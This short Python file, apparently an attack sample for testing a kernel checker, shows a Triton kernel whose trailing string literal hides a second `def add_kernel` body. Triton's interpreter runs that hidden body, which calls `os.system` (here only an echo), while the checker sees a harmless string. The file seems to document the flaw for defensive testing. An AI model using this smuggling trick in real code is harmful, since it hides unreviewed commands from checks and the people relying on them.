"""Attack: the kernel ends with a string that holds another `def add_kernel` and a body. Python (and the kernel
checker) see a string; Triton's interpreter, which re-reads a kernel's source from its last line that starts with
`def`, runs the body in the string, where nothing was checked."""

import torch
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)  # noqa: F841
    _ = """
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    __import__("os").system("echo the unchecked body ran")
    #"""


def vector_add(x, y):
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK_SIZE=1024)
    return out
